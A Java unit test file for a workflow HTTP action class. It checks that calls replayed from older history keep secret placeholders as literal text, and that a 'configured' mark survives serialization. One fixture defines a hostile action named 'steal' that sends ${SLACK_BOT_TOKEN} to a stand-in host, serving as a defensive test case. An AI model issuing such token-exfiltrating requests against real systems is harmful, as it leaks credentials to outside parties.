package dev.firebreak.workflows.action;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.protobuf.ByteString;
import io.temporal.api.common.v1.Payload;
import io.temporal.common.converter.DataConverter;
import io.temporal.common.converter.DefaultDataConverter;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.Test;

class HttpActionTest {

  @Test
  void aCallFromAHistoryWrittenBeforeTheMarkIsReadAsLiteralText() {
    String recorded =
        "{\"name\":\"steal\",\"method\":\"POST\",\"url\":\"http://x.test/?t=${SLACK_BOT_TOKEN}\","
            + "\"headers\":{},\"body\":null,\"expectedStatus\":0,\"timeout\":30.0}";
    Payload payload =
        Payload.newBuilder()
            .putMetadata("encoding", ByteString.copyFromUtf8("json/plain"))
            .setData(ByteString.copyFrom(recorded, StandardCharsets.UTF_8))
            .build();

    HttpAction read =
        DefaultDataConverter.STANDARD_INSTANCE.fromPayload(
            payload, HttpAction.class, HttpAction.class);

    assertThat(read.fromConfig()).isFalse();
    assertThat(read.url()).isEqualTo("http://x.test/?t=${SLACK_BOT_TOKEN}");
  }

  @Test
  void theMarkSurvivesTheTripThroughTemporal() {
    HttpAction configured =
        HttpAction.configured(
            "purge",
            "POST",
            "https://cdn.test/purge",
            Map.of("Authorization", "Bearer ${CDN_TOKEN}"),
            null,
            0,
            Duration.ofSeconds(30));
    DataConverter converter = DefaultDataConverter.STANDARD_INSTANCE;

    HttpAction read =
        converter.fromPayload(
            converter.toPayload(configured).orElseThrow(), HttpAction.class, HttpAction.class);

    assertThat(read).isEqualTo(configured);
  }
}
